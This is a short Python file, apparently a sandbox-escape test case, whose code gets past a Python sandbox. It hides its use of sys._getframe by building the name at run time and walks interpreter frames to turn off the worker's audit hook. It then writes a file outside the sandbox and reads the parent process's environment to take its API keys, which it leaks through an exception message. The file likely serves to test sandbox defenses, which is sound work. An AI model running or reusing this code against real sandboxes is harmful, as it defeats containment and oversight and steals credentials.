# Attempts: walk the interpreter's frames with sys._getframe (the name built at run time) up
# to the worker's locals, switch its audit hook off, then write a marker outside the sandbox
# and read the parent process's environment (API keys), leaking it through the exception.
from typing import sys

get_frame = vars(sys)["_get" + "frame"]
frame = get_frame(0)
while frame is not None:
    for value in list(frame.f_locals.values()):
        if hasattr(value, "active") and hasattr(value, "denied"):
            value.active = False
    frame = frame.f_back
os = sys.modules["os"]
loot = []
try:
    with open("@MARKER@", "w") as f:
        f.write("escaped")
    loot.append("marker written")
except OSError as exc:
    loot.append(f"marker: {exc}")
try:
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        loot.append(f.read().decode(errors="replace"))
except OSError as exc:
    loot.append(f"environ: {exc}")
raise RuntimeError(f"loot: {loot}")
